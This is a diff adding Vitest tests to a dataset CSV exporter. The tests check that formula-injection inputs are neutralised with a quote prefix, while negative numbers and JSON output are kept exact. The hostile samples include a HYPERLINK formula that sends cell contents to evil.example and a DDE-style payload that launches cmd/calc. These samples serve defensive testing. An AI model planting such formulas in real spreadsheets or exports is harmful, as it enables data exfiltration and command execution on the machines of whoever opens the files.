@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { BOM, csvFields, dataPackage, datasetCsv, datasetJson } from '../../src/data/dataset-export';
+import { BOM, csvCell, csvFields, dataPackage, datasetCsv, datasetJson } from '../../src/data/dataset-export';
 import { datasets } from '../support/datasets';
 
 const perMu = datasets.find((dataset) => dataset.id === 'nexteer-output-per-mu')!;
@@ -41,5 +41,45 @@ describe('dataPackage', () => {
       expect(resource.name).toMatch(/^[a-z0-9._-]+$/);
       expect(resource.schema.fields.map((field) => field.name)).toEqual(csvFields.map((field) => field.name));
     }
+  });
+});
+
+describe('CSV formula injection (OWASP)', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+1+1',
+    '-1+1',
+    '\t=1',
+    '\r=1',
+    '＝1+1',
+  ];
+
+  it('prefixes every text cell that a spreadsheet would run as a formula with a quote', () => {
+    for (const text of hostile) {
+      const edited = {
+        ...perMu,
+        values: perMu.values.map((value) => ({ ...value, label: text, unit: text, quote: text })),
+      };
+      const csv = datasetCsv(edited);
+      const rows = csv.slice(1).trimEnd().split('\r\n').slice(1);
+      for (const row of rows.slice(0, perMu.values.length)) {
+        // Every cell that starts the row or follows a comma: none may start a formula.
+        const cells = row.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)!.map((c) => c.replace(/^,/, ''));
+        for (const raw of cells) {
+          const value = raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw;
+          expect(value, `cell ${JSON.stringify(raw)} of ${JSON.stringify(row)}`).not.toMatch(/^[=+\-@\t\r＝]/);
+        }
+        expect(row).toContain(`'${text.replace(/"/g, '""')}`);
+      }
+    }
+  });
+
+  it('keeps negative numbers in number columns as numbers, and the JSON exact', () => {
+    expect(csvCell('-3.5', 'number')).toBe('-3.5');
+    expect(csvCell('-3.5')).toBe("'-3.5");
+    expect(csvCell('-cmd', 'number')).toBe("'-cmd");
+    const edited = { ...perMu, values: perMu.values.map((value) => ({ ...value, label: '=cmd' })) };
+    expect(JSON.parse(datasetJson(edited)).values[0].label).toBe('=cmd');
   });
 });
